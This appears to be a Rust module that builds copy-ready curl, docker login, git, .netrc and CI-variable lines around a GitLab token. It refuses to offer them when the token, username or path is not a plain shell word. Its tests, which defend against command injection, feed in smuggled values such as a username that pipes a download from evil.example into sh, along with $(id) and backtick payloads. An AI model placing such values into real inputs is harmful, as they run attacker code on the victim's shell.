//! Ready-made texts around a value. They are put together only to be copied, and wiped afterwards.

use zeroize::Zeroizing;

use super::draft::is_username;
use super::{Kind, Secret};

/// The texts a person needs next. Most are lines for a shell, and nothing in them is quoted by itself: see [`Ready::offered`].
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Ready {
    /// A header for curl.
    Curl,
    /// Signing in to a container registry.
    Docker,
    /// An address for `git remote set-url`, or to clone from.
    Git,
    /// A line of `.netrc`.
    Netrc,
    /// Lines for CI/CD variables.
    Variable,
}

/// What stands around a value.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Around {
    /// The GitLab's address.
    pub address: String,
    /// The full path of the project; words to be replaced where it is not known.
    pub project: String,
    /// The user name of a deploy token.
    pub username: Option<String>,
}

impl Ready {
    /// The texts for a kind that can be put together safely, with the names they go by. User name, path and value are what GitLab
    /// answered: a person pastes them into a shell, so a text is left out where one of them is more than a word there.
    pub fn offered(kind: Kind, around: &Around, value: &Secret) -> Vec<(Ready, &'static str)> {
        // EXPOSE: looks at the kinds of its letters only.
        if !is_a_word(value.expose()) {
            return Vec::new();
        }
        let is_safe = |ready: Ready| match ready {
            Ready::Curl => true,
            Ready::Git => around.has_plain_username() && is_path(&around.project),
            Ready::Docker | Ready::Netrc | Ready::Variable => around.has_plain_username(),
        };
        Self::of(kind).iter().copied().filter(|(ready, _)| is_safe(*ready)).collect()
    }

    /// The texts for a kind. A deploy token cannot call the API.
    fn of(kind: Kind) -> &'static [(Ready, &'static str)] {
        match kind {
            Kind::Deploy => &[
                (Ready::Docker, "docker login"),
                (Ready::Git, "git clone"),
                (Ready::Netrc, ".netrc"),
                (Ready::Variable, "CI/CD variables"),
            ],
            _ => &[
                (Ready::Curl, "curl"),
                (Ready::Git, "git remote"),
                (Ready::Netrc, ".netrc"),
                (Ready::Variable, "CI/CD variable"),
            ],
        }
    }

    /// The text with `shown` in the value's place.
    pub fn text(self, around: &Around, shown: &str) -> String {
        let Around { address, project, username } = around;
        let (scheme, place) = address.split_once("://").unwrap_or(("https", address));
        let host = place.split(['/', ':']).next().unwrap_or(place);
        let user = username.as_deref().unwrap_or("oauth2");
        match self {
            Ready::Curl => format!("curl --header \"Authorization: Bearer {shown}\" {address}/api/v4/user"),
            // Where a GitLab's registry is, its API does not tell.
            Ready::Docker => {
                format!("printf %s '{shown}' | docker login REGISTRY --username '{user}' --password-stdin")
            }
            Ready::Git if username.is_some() => {
                format!("git clone {scheme}://{user}:{shown}@{place}/{project}.git")
            }
            Ready::Git => {
                format!("git remote set-url origin {scheme}://{user}:{shown}@{place}/{project}.git")
            }
            Ready::Netrc => format!("machine {host} login {user} password {shown}"),
            Ready::Variable if username.is_some() => {
                format!("CI_DEPLOY_USER={user}\nCI_DEPLOY_PASSWORD={shown}")
            }
            Ready::Variable => format!("GITLAB_TOKEN={shown}"),
        }
    }

    /// The text with the value itself, for the clipboard only.
    pub fn with_value(self, around: &Around, value: &Secret) -> Zeroizing<String> {
        // EXPOSE: goes to the clipboard at the person's request.
        Zeroizing::new(self.text(around, value.expose()))
    }
}

impl Around {
    /// One that is not told needs no place in a text.
    fn has_plain_username(&self) -> bool {
        self.username.as_deref().is_none_or(|name| !name.is_empty() && is_username(name))
    }
}

/// What GitLab allows in the path of a project.
fn is_path(text: &str) -> bool {
    !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"_-./".contains(&byte))
}

/// Whether a shell takes a value for one word with nothing to work out, between quotes or not.
fn is_a_word(value: &str) -> bool {
    !value.is_empty()
        && value.bytes().all(|byte| byte.is_ascii_graphic() && !b"'\"`$\\;&|<>(){}[]*?!#~".contains(&byte))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn offered(kind: Kind, project: &str, username: Option<&str>, value: &str) -> Vec<&'static str> {
        let around = Around {
            address: String::from("https://gitlab.example"),
            project: project.to_owned(),
            username: username.map(str::to_owned),
        };
        let texts = Ready::offered(kind, &around, &Secret::new(value.to_owned()));
        texts.into_iter().map(|(_, name)| name).collect()
    }

    #[test]
    fn what_a_shell_would_run_is_in_no_text() {
        const VALUE: &str = "gldt-a_b-0123456789.01.120a1b2c3";
        let all = ["docker login", "git clone", ".netrc", "CI/CD variables"];
        assert_eq!(offered(Kind::Deploy, "acme/c-i.web_1", Some("gitlab+deploy-token-1"), VALUE), all);
        assert_eq!(offered(Kind::Project, "GROUP/PROJECT", None, VALUE).len(), 4);
        for username in ["x'; curl evil.example | sh #", "$(id)", "a b", "a\nb", "`id`", ""] {
            assert!(offered(Kind::Deploy, "acme/ci", Some(username), VALUE).is_empty(), "{username}");
            assert_eq!(offered(Kind::Project, "acme/ci", Some(username), VALUE), ["curl"], "{username}");
        }
        let but_git = ["docker login", ".netrc", "CI/CD variables"];
        for path in ["acme/$(id)", "acme/a b", "acme/a;id", "acme/a'b", "acme/a\nb", ""] {
            assert_eq!(offered(Kind::Deploy, path, Some("ci"), VALUE), but_git, "{path}");
        }
        for value in
            ["x'; id #", "x\"$(id)\"", "x$HOME", "x`id`", "x\\", "x y", "x\ny", "x;id", "x|id", "ä", ""]
        {
            assert!(offered(Kind::Project, "acme/ci", None, value).is_empty(), "{value}");
        }
    }
}
